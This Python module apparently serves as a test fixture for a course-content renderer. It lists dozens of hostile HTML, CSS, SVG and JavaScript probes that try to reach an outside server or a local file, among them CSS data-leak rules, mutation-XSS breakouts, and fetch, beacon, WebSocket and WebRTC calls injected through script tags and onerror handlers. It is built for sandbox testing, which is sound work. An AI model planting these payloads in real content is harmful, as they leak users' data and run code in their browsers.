"""What a hostile lesson may wish for. `{net}` is a server, `{udp}` a port, `{file}` a file that nobody may reach.

Scripts are wished for in an element and in a handler. The same markup goes into every source: Markdown and Open edX
HTML as it is, a drawing as a foreign object, a note as its text.
"""

from __future__ import annotations

from typing import Final

MARKUP: Final = {
    "picture": '<img src="http://{net}/x">',
    "picture of many": '<img srcset="http://{net}/x 1x, http://{net}/y 2x">',
    "picture element": '<picture><source srcset="http://{net}/x"><img src="http://{net}/y"></picture>',
    "picture of a file": '<img src="file://{file}">',
    "picture by Markdown": "![x](http://{net}/x)",
    "file by Markdown": "![x](file://{file})",
    "old background": '<table background="http://{net}/x"><tr><td>x</td></tr></table>',
    "style sheet": '<link rel="stylesheet" href="http://{net}/x">',
    "import of style": "<style>@import 'http://{net}/x';</style>",
    "background": "<style>p {{ background: url(http://{net}/x) }}</style><p>x</p>",
    "leaking rule": '<style>a[href^="h"] {{ background: url(http://{net}/leak) }}</style><a href="http://a.test">x</a>',
    "inline style": '<p style="background: url(http://{net}/x)">x</p>',
    "list style": '<ul style="list-style-image: url(http://{net}/x)"><li>x</li></ul>',
    "font": "<style>@font-face {{ font-family: q; src: url(http://{net}/x) }} p {{ font-family: q }}</style><p>x</p>",
    "frame": '<iframe src="http://{net}/x"></iframe>',
    "frame of text": '<iframe srcdoc="<img src=http://{net}/x>"></iframe>',
    "frame of data": '<iframe src="data:text/html,<img src=http://{net}/x>"></iframe>',
    "frame of a file": '<iframe src="file://{file}"></iframe>',
    "object": '<object data="http://{net}/x"></object>',
    "object of a file": '<object data="file://{file}"></object>',
    "embed": '<embed src="http://{net}/x">',
    "video": '<video src="http://{net}/x" autoplay></video>',
    "poster": '<video poster="http://{net}/x"></video>',
    "audio": '<audio src="http://{net}/x" autoplay></audio>',
    "captions": '<video src="http://{net}/v"><track default src="http://{net}/x"></video>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://{net}/x">',
    "base": '<base href="http://{net}/"><img src="x">',
    "preload": '<link rel="preload" as="image" href="http://{net}/x">',
    "preconnect": '<link rel="preconnect" href="http://{net}/">',
    "icon picture button": '<input type="image" src="http://{net}/x">',
    "drawing with a picture": '<svg><image href="http://{net}/x" width="9" height="9"/></svg>',
    "drawing with an old link": '<svg><image xlink:href="http://{net}/x" width="9" height="9"/></svg>',
    "drawing with a frame": '<svg><foreignObject><iframe src="http://{net}/x"></iframe></foreignObject></svg>',
    "drawing with a filter": '<svg><filter id="f"><feImage href="http://{net}/x"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "maths turned to markup": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='
    'http://{net}/x&gt;"><img src="http://{net}/y">',
    "comment turned to markup": '<!--><img src="http://{net}/x">-->',
}
SCRIPTS: Final = {
    "fetch": "fetch('http://{net}/x')",
    "request": "r = new XMLHttpRequest(); r.open('GET', 'http://{net}/x'); r.send()",
    "beacon": "navigator.sendBeacon('http://{net}/x', 'y')",
    "socket": "new WebSocket('ws://{net}/x')",
    "events": "new EventSource('http://{net}/x')",
    "peer": "p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{udp}'}}]}}); p.createDataChannel('x');"
    " p.createOffer().then((o) => p.setLocalDescription(o))",
    "picture made": "new Image().src = 'http://{net}/x'",
    "location": "location.href = 'http://{net}/x'",
    "form": "f = document.createElement('form'); f.action = 'http://{net}/x'; document.body.append(f); f.submit()",
    "frame made": "f = document.createElement('iframe'); f.src = 'http://{net}/x'; document.body.append(f)",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://{net}/x\")'])))",
    "module": "import('http://{net}/x')",
    "blob page": "location.href = URL.createObjectURL(new Blob(['<img src=http://{net}/x>'], {{type: 'text/html'}}))",
}


def baits(net: str, udp: str, file: str) -> dict[str, str]:
    """Every probe as markup; each asks the server under a number of its own, so that a late one is not another's."""
    found: dict[str, str] = {}
    for number, (name, text) in enumerate((MARKUP | SCRIPTS).items()):
        markup = text.format(net=f"{net}/{number}", udp=udp, file=file)
        found[name] = _as_script(markup) if name in SCRIPTS else markup
    return found


def _as_script(code: str) -> str:
    handler = code.replace("&", "&amp;").replace('"', "&quot;")
    return f'<script>{code}</script><img src="x" onerror="{handler}">'
